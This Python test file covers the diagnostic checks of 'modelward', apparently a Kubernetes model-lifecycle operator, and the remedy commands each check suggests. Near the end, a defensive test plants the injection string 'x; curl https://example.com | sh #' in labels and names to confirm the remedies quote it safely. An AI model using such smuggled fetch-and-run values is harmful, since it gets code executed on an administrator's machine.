"""What each check says of facts: a table of what is amiss, and of what looks amiss and is not."""

import copy
import shlex
from dataclasses import dataclass, replace
from datetime import timedelta
from typing import Any

import pytest

from modelward.diagnosis.checks import CHECKS, examine
from modelward.diagnosis.facts import Access, Clocks, Installation, Seen, Unseen
from modelward.diagnosis.findings import Finding, Level
from modelward.diagnosis.ground import ROUTES
from modelward.diagnosis.operators import operator_of
from modelward.diagnosis.rights import rights_of
from tests.unit.diagnosis.builders import (
    NOW,
    OPERATOR,
    access,
    condition,
    configuration,
    definitions,
    fence,
    gateway,
    healthy,
    http_route,
    lease,
    model,
    model_pod,
    pod,
    policy,
    row,
    version,
    with_operator,
)

Manifest = dict[str, Any]
OK, WARNING, PROBLEM, UNSEEN = Level.OK, Level.WARNING, Level.PROBLEM, Level.UNSEEN


@dataclass(frozen=True)
class Case:
    check: str
    given: Installation
    level: Level
    says: tuple[str, ...] = ()
    remedy: str = ""


def but(**facts: Any) -> Installation:
    """A healthy installation with other facts."""
    return replace(healthy(), **{name: value if name == "last_words" else Seen(value) for name, value in facts.items()})


def crd(name: str, change: Any) -> Installation:
    changed = copy.deepcopy(definitions())
    change(changed[f"{name}.modelward.dev"])
    return but(definitions=changed)


def schema(definition: Manifest) -> Manifest:
    found: Manifest = definition["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    return found


def admitted(change: Any) -> Installation:
    live = copy.deepcopy(healthy().admission.value)
    change(live)
    return but(admission=live)


def waiting(reason: str, message: str = "", last: Manifest | None = None) -> Installation:
    status = {"ready": False, "restartCount": 3, "state": {"waiting": {"reason": reason, "message": message}}}
    return replace(
        with_operator(available=0), pods=Seen((pod(**status, **({"lastState": {"terminated": last}} if last else {})),))
    )


def attached(listener: Manifest, namespace_labels: Manifest | None = None, **route: Any) -> Installation:
    names = {"lending": {"metadata": {"labels": namespace_labels or {}}}}
    own = model()
    own["spec"]["serving"]["route"] |= route
    return but(gateways={("gateways", "public"): gateway(**listener)}, namespaces=names, models=(own,))


def bare(given: Access) -> Access:
    """Only the first rule of each role."""
    return replace(given, roles=tuple({**role, "rules": role["rules"][:1]} for role in given.roles))


def deleted(obj: Manifest) -> Manifest:
    return {**obj, "metadata": {**obj["metadata"], "deletionTimestamp": "2026-11-01T08:00:00Z"}}


def monitor(kind: str, **labels: str) -> Manifest:
    return {"kind": kind, "metadata": {"name": "modelward", "labels": labels}}


def prometheus(**spec: Any) -> Manifest:
    return {"metadata": {"name": "main"}, "spec": spec}


FROM_OPERATOR = {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "modelward-system"}}}
S3 = "s3: {bucket: audit}\nsigning: {keyFile: /etc/key.pem}\n"
SIGNED = "modelward_audit_checkpoints_signed 1\n"
WILDCARD = Access(
    (
        {
            "kind": "ClusterRole",
            "metadata": {"name": "cluster-admin"},
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
        },
    ),
    (
        {
            "metadata": {"name": "admins"},
            "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "User", "name": "root@example.com"}],
        },
    ),
)

CASES = {
    "a release of Kubernetes without admission policies": Case(
        "kubernetes", but(kubernetes="v1.29.9"), PROBLEM, ("v1.29.9", "1.30 is the oldest"), "upgrade the cluster"
    ),
    "a release of Kubernetes as vendors write it": Case("kubernetes", but(kubernetes="v1.31.2-eks-7f9249a"), OK),
    "a release of Kubernetes that is no number": Case("kubernetes", but(kubernetes="latest"), WARNING, ("'latest'",)),
    "a CRD that is missing": Case(
        "definitions",
        but(definitions=definitions() | {"models.modelward.dev": None}),
        PROBLEM,
        ("these CRDs are missing", "models.modelward.dev"),
        "kubectl apply --server-side -f crds",
    ),
    "no CRD at all": Case(
        "definitions",
        but(definitions=dict.fromkeys(definitions())),
        PROBLEM,
        ("models.modelward.dev",),
        "helm install modelward-crds charts/modelward-crds",
    ),
    "a CRD whose names are taken": Case(
        "definitions",
        crd(
            "models",
            lambda one: one["status"].update(
                conditions=[{"type": "NamesAccepted", "status": "False", "message": "mdl is taken"}]
            ),
        ),
        PROBLEM,
        ("not served (NamesAccepted): mdl is taken",),
        "kubectl describe crd models.modelward.dev",
    ),
    "a CRD of an older release": Case(
        "definitions",
        crd("models", lambda one: schema(one)["properties"]["spec"]["properties"].pop("challengers")),
        PROBLEM,
        ("the CRD models.modelward.dev is older than release 0.1.0", "spec.challengers"),
        "kubectl apply --server-side -f crds",
    ),
    "an old CRD that Helm brought": Case(
        "definitions",
        crd(
            "models",
            lambda one: (
                schema(one)["properties"]["spec"]["properties"].pop("challengers"),
                one["metadata"]["annotations"].update(
                    {"meta.helm.sh/release-name": "definitions", "meta.helm.sh/release-namespace": "modelward-system"}
                ),
            ),
        ),
        PROBLEM,
        ("is older",),
        "helm upgrade definitions charts/modelward-crds -n modelward-system",
    ),
    "a CRD of a newer release": Case(
        "definitions",
        crd("models", lambda one: schema(one)["properties"]["spec"]["properties"].update(tomorrow={"type": "string"})),
        WARNING,
        ("newer than release 0.1.0: it knows spec.tomorrow",),
    ),
    "a CRD with other rules": Case(
        "definitions",
        crd("models", lambda one: schema(one)["properties"]["spec"].pop("x-kubernetes-validations")),
        WARNING,
        ("other rules than release 0.1.0",),
    ),
    "a CRD without the version": Case(
        "definitions",
        crd("models", lambda one: one["spec"]["versions"][0].update(name="v1")),
        PROBLEM,
        ("has no version v1alpha1",),
    ),
    "no operator": Case(
        "operator",
        but(operators=()),
        PROBLEM,
        ("no Deployment carries the label",),
        "helm install modelward charts/modelward",
    ),
    "an operator that was scaled to zero": Case(
        "operator",
        with_operator(wanted=0),
        PROBLEM,
        ("scaled to 0",),
        "kubectl -n modelward-system scale deployment modelward --replicas=1",
    ),
    "pods that may not be made": Case(
        "operator",
        with_operator(
            failure='pods "modelward-x2" is forbidden: violates PodSecurity "restricted:latest"', available=0
        ),
        PROBLEM,
        ("cannot make its pods", "violates PodSecurity"),
        "kubectl -n modelward-system describe deployment modelward",
    ),
    "an image that cannot be pulled": Case(
        "operator",
        waiting("ImagePullBackOff", "unauthorized"),
        PROBLEM,
        ("cannot pull registry.example.com/modelward:0.1.0: unauthorized",),
        "kubectl -n modelward-system describe pod modelward-x2",
    ),
    "a configuration that cannot be used": Case(
        "operator",
        replace(
            waiting("CrashLoopBackOff", "back-off", {"exitCode": 2}),
            last_words={"modelward-x2": "--metrics-config: url"},
        ),
        PROBLEM,
        (
            "ended with exit code 2, and was started again 3 times: a file of its configuration cannot be used",
            'its last words: "--metrics-config: url"',
        ),
        "kubectl -n modelward-system logs modelward-x2",
    ),
    "a process that fails": Case(
        "operator", waiting("CrashLoopBackOff", "back-off", {"exitCode": 1}), PROBLEM, ("ended with exit code 1",)
    ),
    "a process that has just ended, or was just started again": Case(
        "operator",
        replace(
            with_operator(available=0),
            pods=Seen((pod(ready=False, restartCount=1, state={"terminated": {"exitCode": 2}}),)),
        ),
        PROBLEM,
        ("ended with exit code 2, and was started again 1 time",),
    ),
    "too little memory": Case(
        "operator",
        waiting("CrashLoopBackOff", "back-off", {"exitCode": 137, "reason": "OOMKilled"}),
        PROBLEM,
        ("for want of memory", "resources.limits.memory"),
    ),
    "too little memory once": Case(
        "operator",
        but(pods=(pod(lastState={"terminated": {"reason": "OOMKilled"}}),)),
        WARNING,
        ("was killed for want of memory",),
    ),
    "a Secret that is not there": Case(
        "operator",
        replace(
            waiting("ContainerCreating"),
            events=Seen(
                ({"regarding": {"name": "modelward-x2"}, "note": 'MountVolume.SetUp failed: secret "s3" not found'},)
            ),
        ),
        PROBLEM,
        ('secret "s3" not found',),
    ),
    "a pod that waits, and events that may not be read": Case(
        "operator",
        replace(waiting("ContainerCreating"), events=Unseen("no")),
        PROBLEM,
        ("its events cannot be read from here",),
    ),
    "no node for a pod": Case(
        "operator",
        replace(
            with_operator(available=0),
            pods=Seen(
                (
                    {
                        "metadata": {"name": "modelward-x2"},
                        "status": {"conditions": [{"type": "PodScheduled", "status": "False", "message": "0/3 nodes"}]},
                    },
                )
            ),
        ),
        PROBLEM,
        ("finds no node: 0/3 nodes",),
    ),
    "a pod that is not ready": Case(
        "operator",
        replace(with_operator(available=0), pods=Seen((pod(ready=False),))),
        PROBLEM,
        ("runs, and is not ready",),
    ),
    "one of two pods": Case("operator", with_operator(wanted=2), WARNING, ("1 of 2 pods available",)),
    "a pod that is going": Case(
        "operator",
        but(
            pods=(pod(), {**pod(ready=False), "metadata": {"name": "old", "deletionTimestamp": "2026-11-01T09:00:00Z"}})
        ),
        OK,
    ),
    "an operator of another release": Case(
        "release",
        with_operator(release="0.2.0"),
        WARNING,
        ("release 0.2.0", "0.1.0"),
        "git checkout v0.2.0 && pipx install --force '.[cli]'",
    ),
    "a second operator": Case(
        "alone",
        but(everywhere=(OPERATOR, replace(OPERATOR, namespace="team-a", helm_release="theirs"))),
        PROBLEM,
        ("Deployment team-a/modelward",),
        "helm uninstall theirs -n team-a",
    ),
    "a Lease that was never made": Case("leader", but(lease=None), PROBLEM, ("no replica has ever led",)),
    "a Lease that nobody holds": Case("leader", but(lease=lease(holder="")), PROBLEM, ("nobody holds Lease",)),
    "a holder that is gone": Case(
        "leader",
        but(lease=lease(silent=300)),
        PROBLEM,
        ("has not renewed it for 300 s",),
        "kubectl -n modelward-system logs",
    ),
    "a holder of another installation": Case(
        "leader", but(lease=lease(holder="theirs-1")), PROBLEM, ("theirs-1", "another installation shares the Lease")
    ),
    "a holder whose clock is an hour behind": Case("leader", but(lease=lease(ahead=-3600)), OK, ("leads",)),
    "an operator whose clock is ahead": Case(
        "clock",
        but(lease=lease(ahead=90.5)),
        PROBLEM,
        ("the operator's clock is 90 s ahead of",),
        "set the clock (NTP) of the node",
    ),
    "an operator whose clock is a little behind": Case("clock", but(lease=lease(ahead=-7.5)), WARNING, ("8 s behind",)),
    "a renewal that was on its way for long": Case("clock", but(lease=lease(ahead=-4)), OK),
    "this machine's clock behind": Case(
        "clock",
        but(clocks=Clocks(NOW - timedelta(minutes=2), NOW)),
        WARNING,
        ("this machine's clock is 120 s behind",),
        "timedatectl",
    ),
    "a clock of an operator that never led": Case("clock", but(lease=None), OK, ("API server and this machine agree",)),
    "a right that was taken away": Case(
        "rights",
        but(rights={right: right.resource != "httproutes" for right in rights_of(OPERATOR)}),
        PROBLEM,
        (
            "system:serviceaccount:modelward-system:modelward may not create httproutes.gateway.networking.k8s.io",
            "and 2 more",
        ),
        "helm upgrade modelward charts/modelward -n modelward-system --reuse-values",
    ),
    "a role that is missing in one namespace": Case(
        "rights",
        but(
            rights={
                right: False
                for right in rights_of(replace(OPERATOR, watched=("lending",)))
                if right.namespace == "lending"
            }
        ),
        PROBLEM,
        ("in namespace lending: the chart gives it that right",),
    ),
    "an admission policy that is missing": Case(
        "admission",
        admitted(lambda live: live.update({"ValidatingAdmissionPolicy modelward-status": None})),
        PROBLEM,
        ("no approval counts: ValidatingAdmissionPolicy modelward-status is missing",),
        "--set admission.enabled=true",
    ),
    "an admission policy that lets pass what it cannot judge": Case(
        "admission",
        admitted(
            lambda live: live["ValidatingAdmissionPolicy modelward-approvals"]["spec"].update(failurePolicy="Ignore")
        ),
        PROBLEM,
        ("(failurePolicy)",),
    ),
    "a binding that only warns": Case(
        "admission",
        admitted(
            lambda live: live["ValidatingAdmissionPolicyBinding modelward-status"]["spec"].update(
                validationActions=["Warn"]
            )
        ),
        PROBLEM,
        ("(validationActions)",),
    ),
    "admission policies for another account": Case(
        "admission",
        with_operator(account="other"),
        PROBLEM,
        ("for the operator system:serviceaccount:modelward-system:other",),
    ),
    "a Model of a tier without a policy": Case(
        "policies",
        but(policies=(policy(tier="Low"),)),
        PROBLEM,
        ("no LifecyclePolicy applies to lending/credit-risk (tier High; there are: high)",),
        "policies.install",
    ),
    "a policy for other namespaces": Case(
        "policies",
        but(policies=(policy(appliesTo={"tiers": ["High"], "namespaceSelector": {"matchLabels": {"team": "fraud"}}}),)),
        PROBLEM,
        ("no LifecyclePolicy applies to lending/credit-risk",),
    ),
    "no policy, and no Model yet": Case(
        "policies", but(policies=(), models=()), WARNING, ("there is no LifecyclePolicy",)
    ),
    "a policy of another release": Case(
        "policies",
        but(policies=(policy(), {**policy(stages=7), "metadata": {"name": "odd"}})),
        PROBLEM,
        ("LifecyclePolicy odd cannot be read",),
    ),
    "a role that nobody has": Case(
        "approvers",
        but(access=Access((), ())),
        PROBLEM,
        ("nobody may approve in the role 'risk' in namespace lending, as policy high asks",),
        "kubectl create rolebinding risk-approvers -n lending --clusterrole=modelward-approver-risk --user=NAME",
    ),
    "a role that only an administrator has, by a wildcard": Case(
        "approvers", but(access=WILDCARD), PROBLEM, ("nobody may approve in the role 'risk'",)
    ),
    "a role that is held in another namespace": Case(
        "approvers",
        but(access=access(namespace="fraud")),
        PROBLEM,
        ("nobody may approve in the role 'risk' in namespace lending",),
    ),
    "a role that is held everywhere": Case("approvers", but(access=access(namespace="")), OK),
    "a role that is held by a machine": Case(
        "approvers", but(access=access("system:serviceaccount:ci:bot")), PROBLEM, ("nobody may approve",)
    ),
    "the right to reject only": Case(
        "approvers", but(access=access(verbs=["reject"])), PROBLEM, ("nobody may approve",)
    ),
    "a role of ones own that lets nobody create a ModelApproval": Case(
        "approvers",
        but(access=bare(access())),
        PROBLEM,
        ("grace@example.com may approve in the role 'risk' in namespace lending, and may not create ModelApprovals",),
        "--clusterrole=modelward-approver-risk --user=grace@example.com",
    ),
    "an approver with a wildcard besides": Case(
        "approvers",
        but(
            access=Access(
                (*access("root@example.com").roles, *WILDCARD.roles),
                (*access("root@example.com").bindings, *WILDCARD.bindings),
            )
        ),
        PROBLEM,
        ("nobody may approve",),
    ),
    "a policy without approvals": Case("approvers", but(access=Access((), ()), policies=(policy(roles=()),)), OK),
    "a map that knows nobody": Case(
        "identities",
        but(policies=(policy(identities={}),)),
        PROBLEM,
        ("policy high asks for approvals, and its identityMap knows nobody",),
        "policies.spec.identityMap",
    ),
    "names that are matched by their spelling": Case(
        "identities", but(policies=(policy(identities={"matchByName": True}),)), OK
    ),
    "a map that knows nobody, where nobody is asked": Case(
        "identities", but(policies=(policy(identities={}, roles=()),)), OK
    ),
    "a builder who is not in the map": Case(
        "identities",
        but(versions=(version("mallory@example.com"),)),
        PROBLEM,
        ("ModelVersion lending/credit-risk-v1 was built by mallory@example.com", "policy high does not know"),
        "kubectl edit lifecyclepolicy high",
    ),
    "a version without builders": Case(
        "identities",
        but(versions=({**version(), "spec": {"model": "credit-risk", "version": "v1"}},)),
        PROBLEM,
        ("names no builder",),
    ),
    "an approver who is not in the map": Case(
        "identities",
        but(access=access("eve@example.com")),
        WARNING,
        ("eve@example.com may approve in the role 'risk'", "does not know"),
    ),
    "a Model in a namespace that is not watched": Case(
        "namespaces",
        with_operator(watched=("fraud",)),
        PROBLEM,
        ("watches fraud only: nobody looks after the Models in lending",),
        "--set 'watchNamespaces={fraud,lending}'",
    ),
    "a watched namespace that does not exist": Case(
        "namespaces",
        with_operator(watched=("lending", "gone")),
        PROBLEM,
        ("is to watch gone, which does not exist",),
        "kubectl create namespace gone",
    ),
    "a Model that was not looked at": Case(
        "observed",
        but(models=(model(status={}),)),
        PROBLEM,
        ("has not looked at the newest spec of lending/credit-risk",),
        "logs",
    ),
    "a Model that is being deleted": Case("observed", but(models=(deleted(model(status={})),)), OK),
    "a Model of a moment ago": Case("observed", but(models=(model(status={}, changed=5),)), OK),
    "no Gateway API, and a Model with a route": Case(
        "gateway-api",
        but(definitions=definitions() | {ROUTES: None}),
        PROBLEM,
        ("Gateway API is not installed, and lending/credit-risk asks for a route",),
        "kubectl apply --server-side -f",
    ),
    "no Gateway API, and no Model with a route": Case(
        "gateway-api", but(definitions=definitions() | {ROUTES: None}, models=()), WARNING, ("served all or nothing",)
    ),
    "a Gateway API without percentages": Case(
        "gateway-api",
        but(definitions=definitions() | {ROUTES: http_route("requestMirror", "backendRef")}),
        PROBLEM,
        ("Gateway API v1.6.1 has no percentage for mirrored requests",),
    ),
    "a Gateway API before v1": Case(
        "gateway-api",
        but(definitions=definitions() | {ROUTES: http_route("requestMirror", version="v1beta1")}),
        PROBLEM,
        ("serves HTTPRoute as v1beta1, and not as v1",),
    ),
    "a Gateway that does not exist": Case(
        "gateways",
        but(gateways={("gateways", "public"): None}),
        PROBLEM,
        ("Gateway gateways/public, which lending/credit-risk names", "does not exist"),
        "kubectl get gateways -A",
    ),
    "a Gateway without an address": Case(
        "gateways",
        attached({"programmed": "False", "message": "no address"}),
        PROBLEM,
        ("is not programmed: no address",),
        "kubectl describe gateway public -n gateways",
    ),
    "a Gateway that no controller has seen": Case(
        "gateways", attached({"programmed": ""}), PROBLEM, ("no gateway controller has taken it over",)
    ),
    "a Gateway for its own namespace": Case(
        "gateways",
        attached({"allowedRoutes": {"namespaces": {"from": "Same"}}}),
        PROBLEM,
        ("does not let routes of namespace lending in (allowedRoutes.namespaces), where lending/credit-risk is",),
        "kubectl edit gateway public -n gateways",
    ),
    "a Gateway that says nothing of namespaces": Case(
        "gateways", attached({"allowedRoutes": {}}), PROBLEM, ("allowedRoutes",)
    ),
    "a Gateway for namespaces with a label": Case(
        "gateways",
        attached(
            {"allowedRoutes": {"namespaces": {"from": "Selector", "selector": {"matchLabels": {"models": "yes"}}}}}
        ),
        PROBLEM,
        ("does not let routes of namespace lending in",),
    ),
    "a Gateway for namespaces with a label that this one has": Case(
        "gateways",
        attached(
            {"allowedRoutes": {"namespaces": {"from": "Selector", "selector": {"matchLabels": {"models": "yes"}}}}},
            {"models": "yes"},
        ),
        OK,
    ),
    "a Gateway for routes of another kind": Case(
        "gateways",
        attached({"allowedRoutes": {"kinds": [{"kind": "TLSRoute"}], "namespaces": {"from": "All"}}}),
        PROBLEM,
        ("does not let",),
    ),
    "a Gateway for another host": Case(
        "gateways",
        attached({"hostname": "*.example.org"}),
        PROBLEM,
        ("answers for *.example.org, and lending/credit-risk asks for credit.example.com",),
    ),
    "a Gateway for all hosts of a domain": Case("gateways", attached({"hostname": "*.example.com"}), OK),
    "a listener that does not exist": Case(
        "gateways",
        attached({}, parentRefs=[{"name": "public", "namespace": "gateways", "sectionName": "https"}]),
        PROBLEM,
        ("has no listener 'https'", "it has http"),
    ),
    "a route that the gateway refuses": Case(
        "routes",
        but(
            models=(
                model(status=condition("TrafficApplied", "RouteNotAccepted", "Accepted=False (NotAllowedByListeners)")),
            )
        ),
        PROBLEM,
        ("lending/credit-risk: Accepted=False (NotAllowedByListeners)",),
        "kubectl describe httproute credit-risk -n lending",
    ),
    "a route whose Service is missing": Case(
        "routes",
        but(models=(model(status=condition("TrafficApplied", "RefsUnresolved", "ResolvedRefs=False")),)),
        PROBLEM,
        ("ResolvedRefs",),
    ),
    "a route that is not needed yet": Case(
        "routes", but(models=(model(status=condition("TrafficApplied", "NoTraffic", "no version", "Unknown")),)), OK
    ),
    "a Prometheus that is not configured": Case(
        "sources",
        but(models=(model(metrics={"source": {"prometheus": "main"}}),)),
        PROBLEM,
        ("lending/credit-risk reads Prometheus 'main', which the operator does not know (it knows platform)",),
        "metrics.prometheusSources",
    ),
    "a Prometheus that is configured": Case(
        "sources", but(models=(model(metrics={"source": {"prometheus": "platform"}}),)), OK
    ),
    "a query for a Prometheus that is not configured": Case(
        "sources",
        but(
            policies=(
                policy(
                    stages={
                        "validation": {"gates": [{"name": "q", "query": {"source": "main", "query": "up", "min": 1}}]}
                    }
                ),
            )
        ),
        PROBLEM,
        ("policy high reads Prometheus 'main'",),
    ),
    "a NetworkPolicy that lets nobody in": Case(
        "network",
        but(network_policies=(fence(),)),
        PROBLEM,
        (
            "NetworkPolicy default-deny in namespace lending keeps the operator from port 9090 of the pods of credit-risk",
        ),
        "kubernetes.io/metadata.name: modelward-system",
    ),
    "a NetworkPolicy for the port of requests only": Case(
        "network", but(network_policies=(fence({"ports": [{"port": 8080}]}),)), PROBLEM, ("port 9090",)
    ),
    "a NetworkPolicy for another namespace": Case(
        "network",
        but(
            network_policies=(
                fence(
                    {"from": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}]}
                ),
            )
        ),
        PROBLEM,
        ("keeps the operator from port 9090",),
    ),
    "a NetworkPolicy for pods of its own namespace": Case(
        "network", but(network_policies=(fence({"from": [{"podSelector": {}}]}),)), PROBLEM, ("keeps the operator",)
    ),
    "a NetworkPolicy that lets the operator in": Case(
        "network",
        but(
            network_policies=(fence({"from": [FROM_OPERATOR], "ports": [{"port": 9090}]}),),
            namespaces={},
            models=(model(),),
        ),
        OK,
    ),
    "a NetworkPolicy for a range of ports": Case(
        "network", but(network_policies=(fence({"ports": [{"port": 9000, "endPort": 9100}]}),)), OK
    ),
    "a NetworkPolicy for a port by its name": Case(
        "network",
        but(
            network_policies=(fence({"ports": [{"port": "metrics"}]}),),
            model_pods=(model_pod({"name": "metrics", "containerPort": 9090}),),
        ),
        OK,
    ),
    "a NetworkPolicy for UDP": Case(
        "network",
        but(network_policies=(fence({"ports": [{"port": 9090, "protocol": "UDP"}]}),)),
        PROBLEM,
        ("port 9090",),
    ),
    "a NetworkPolicy for what goes out": Case("network", but(network_policies=(fence(policyTypes=["Egress"]),)), OK),
    "a NetworkPolicy for other pods": Case(
        "network", but(network_policies=(fence(podSelector={"matchLabels": {"app": "web"}}),)), OK
    ),
    "a NetworkPolicy with a second one that lets the operator in": Case(
        "network",
        but(network_policies=(fence(), fence({"from": [FROM_OPERATOR]})), namespaces={"lending": {"metadata": {}}}),
        OK,
    ),
    "a NetworkPolicy around pods that a Prometheus reads": Case(
        "network", but(network_policies=(fence(),), models=(model(metrics={"source": {"prometheus": "platform"}}),)), OK
    ),
    "a gate that gets no metrics": Case(
        "metrics",
        but(models=(model(status=row("MetricsUnavailable", "pod x refused port 9090")),)),
        PROBLEM,
        ("lending/credit-risk has a gate without evidence: pod x refused port 9090",),
        "kubectl describe model credit-risk -n lending",
    ),
    "a gate of the monitoring that gets no metrics": Case(
        "metrics",
        but(
            models=(
                model(
                    status={"observedGeneration": 1, "monitoring": row("StaleMetrics", "the newest sample is 5m old")}
                ),
            )
        ),
        PROBLEM,
        ("the newest sample is 5m old",),
    ),
    "a gate that only has to wait": Case(
        "metrics", but(models=(model(status=row("InsufficientSamples", "3 of 100")),)), OK
    ),
    "a gate that failed": Case("metrics", but(models=(model(status=row("Failed", "errors rose", "Fail")),)), OK),
    "an audit trail that is not exported": Case("audit", healthy(), OK, ("audit records stay in the cluster",)),
    "an audit trail that is exported": Case(
        "audit", but(configuration=configuration(audit=S3), metrics={"x": SIGNED}), OK
    ),
    "a chain that does not link": Case(
        "audit",
        but(configuration=configuration(audit=S3), metrics={"x": f"{SIGNED}modelward_audit_broken_chains 2\n"}),
        PROBLEM,
        ("the audit chain of 2 Models does not link",),
        "modelward audit verify",
    ),
    "a storage that takes nothing": Case(
        "audit",
        but(
            configuration=configuration(audit=S3),
            metrics={
                "x": f"{SIGNED}modelward_audit_backlog_records 12\nmodelward_audit_oldest_unexported_age_seconds 4000\n"
            },
        ),
        PROBLEM,
        ("12 audit records have waited for durable storage",),
    ),
    "a signing key that cannot be used": Case(
        "audit",
        but(
            configuration=configuration(audit=S3),
            metrics={"x": "modelward_audit_checkpoints_signed 0\nmodelward_audit_exported_records_total 3\n"},
        ),
        PROBLEM,
        ("cannot use the key of audit.signing.secretName",),
    ),
    "a signing key that was not needed yet": Case(
        "audit", but(configuration=configuration(audit=S3), metrics={"x": "modelward_audit_checkpoints_signed 0\n"}), OK
    ),
    "a webhook that fails": Case(
        "webhooks",
        but(
            configuration=configuration(notifications="webhooks: []"),
            metrics={
                "x": 'modelward_notifications_waiting{webhook="tickets"} 3\nmodelward_notifications_failures_total{webhook="tickets"} 9\n'
            },
        ),
        WARNING,
        ("events wait for webhook tickets",),
    ),
    "a webhook that is only just told": Case(
        "webhooks",
        but(
            configuration=configuration(notifications="webhooks: []"),
            metrics={"x": 'modelward_notifications_waiting{webhook="tickets"} 1\n'},
        ),
        OK,
    ),
    "an operator that no Prometheus reads": Case(
        "alerts", but(monitors=()), WARNING, ("no ServiceMonitor",), "--set monitoring.serviceMonitor.enabled=true"
    ),
    "alerts that are not loaded": Case(
        "alerts",
        but(monitors=(monitor("PodMonitor"),), prometheuses=(prometheus(podMonitorSelector={}),)),
        WARNING,
        ("the operator's alerts are not loaded",),
    ),
    "a monitor with labels that no Prometheus chooses": Case(
        "alerts",
        but(
            monitors=(monitor("ServiceMonitor"), monitor("PrometheusRule", release="stack")),
            prometheuses=(
                prometheus(
                    serviceMonitorSelector={"matchLabels": {"release": "stack"}},
                    ruleSelector={"matchLabels": {"release": "stack"}},
                ),
            ),
        ),
        WARNING,
        ("no Prometheus chooses ServiceMonitor modelward by its labels",),
        "monitoring.serviceMonitor.labels",
    ),
    "monitors that a Prometheus chooses": Case(
        "alerts",
        but(
            monitors=(monitor("ServiceMonitor"), monitor("PrometheusRule")),
            prometheuses=(prometheus(serviceMonitorSelector={}, ruleSelector={}),),
        ),
        OK,
    ),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_a_check_says(case: Case) -> None:
    found = of(case.check, case.given)
    fitting = [each for each in found if each.level is case.level]
    assert fitting, found
    assert any(all(words in each.message for words in case.says) and case.remedy in each.remedy for each in fitting), (
        found
    )
    if case.level is OK:
        assert found == fitting


def test_a_healthy_installation_is_ok_in_every_check() -> None:
    found = examine(healthy())
    assert [each for each in found if each.level is not OK] == []
    assert [each.check for each in found] == [check.name for check in CHECKS]


def test_a_version_that_cannot_be_read_is_left_to_its_models_condition() -> None:
    assert of("identities", but(versions=({**version(), "spec": {"replicas": "many"}},)))[0].level is OK


def test_every_check_has_a_case_that_is_not_ok() -> None:
    assert {case.check for case in CASES.values() if case.level is not OK} == {check.name for check in CHECKS}


def test_what_is_wrong_comes_with_something_to_do() -> None:
    found = [each for case in CASES.values() for each in examine(case.given)]
    assert [each for each in found if each.level in (PROBLEM, WARNING) and not each.remedy] == []


def test_a_fact_that_may_not_be_read_ends_a_check_and_no_other() -> None:
    found = examine(replace(healthy(), rights=Unseen("subjectaccessreviews is forbidden. Ask who runs the cluster.")))
    assert [(each.check, each.level) for each in found if each.level is not OK] == [("rights", UNSEEN)]
    assert (
        "Ask who runs the cluster"
        in of("rights", replace(healthy(), rights=Unseen("Ask who runs the cluster")))[0].message
    )


def test_without_an_operator_nothing_is_said_about_one() -> None:
    found = {each.check: each.level for each in examine(but(operators=()))}
    for check in ("leader", "rights", "admission", "release", "alone"):
        assert found[check] is UNSEEN


def test_a_deployment_of_the_chart_tells_how_the_operator_works() -> None:
    from tests.unit.charts.rendering import only

    own = operator_of(only("Deployment", watchNamespaces=["lending", "fraud"], discovery__enabled=False, port=9999))
    assert own.username == "system:serviceaccount:modelward:modelward"
    assert (own.watched, own.discovers, own.port) == (("lending", "fraud"), False, 9999)
    assert (own.lease, own.configuration) == ("modelward", "modelward")
    assert own.selector == "app.kubernetes.io/name=modelward,app.kubernetes.io/instance=modelward"


def of(check: str, given: Installation) -> list[Finding]:
    return [each for each in examine(given) if each.check == check]


STRANGE = "x; curl https://example.com | sh #"
BROUGHT = {"meta.helm.sh/release-name": STRANGE, "meta.helm.sh/release-namespace": STRANGE}
ELSEWHERE = replace(OPERATOR, namespace="team-a", helm_release=STRANGE)
COPIED = {
    "the release of a second operator": ("alone", but(everywhere=(OPERATOR, ELSEWHERE))),
    "the release of the operator": ("namespaces", but(operators=(replace(ELSEWHERE, watched=("modelward-system",)),))),
    "a namespace that it is to watch": ("namespaces", with_operator(watched=("lending", STRANGE))),
    "the release of the CRDs": (
        "definitions",
        but(
            definitions={
                name: {**each, "metadata": {"name": name, "annotations": BROUGHT}, "spec": {}}
                for name, each in definitions().items()
            }
        ),
    ),
    "the holder of the Lease": ("leader", but(lease=lease(holder=STRANGE))),
    "somebody who holds a role": ("approvers", but(access=bare(access(STRANGE)))),
}


@pytest.mark.parametrize(("check", "given"), COPIED.values(), ids=COPIED)
def test_what_others_wrote_is_one_word_of_a_command_that_is_to_be_copied(check: str, given: Installation) -> None:
    """Whoever labels a Deployment, or names a subject of a RoleBinding, must not write what an administrator types."""
    found = of(check, given)
    assert found
    for finding in found:
        words = shlex.split(finding.remedy)
        assert any(STRANGE in word for word in words), finding.remedy
        assert "curl" not in words


@pytest.mark.parametrize("text", ["- a list", "prometheusSources: true", "prometheusSources: [platform]"])
def test_a_configuration_of_another_shape_names_no_source(text: str) -> None:
    own = model()
    own["spec"]["serving"]["metrics"] = {"source": {"prometheus": "platform"}}
    (said,) = of("sources", but(configuration=configuration(text), models=(own,)))
    assert (said.level, "(it knows none)" in said.message) == (PROBLEM, True)


def test_an_answer_that_is_no_page_of_metrics_ends_the_check() -> None:
    (said,) = of("audit", but(configuration=configuration(audit=S3), metrics={"modelward-0": "<html>sign in {"}))
    assert said.level is UNSEEN
    assert said.message == "what pod modelward-0 answers on the port of the operator's metrics are no metrics"


def test_a_port_that_is_no_number_is_the_usual_one() -> None:
    from tests.unit.charts.rendering import only

    deployment = only("Deployment")
    deployment["spec"]["template"]["spec"]["containers"][0]["args"] = ["--health-port=http"]
    assert operator_of(deployment).port == 8080
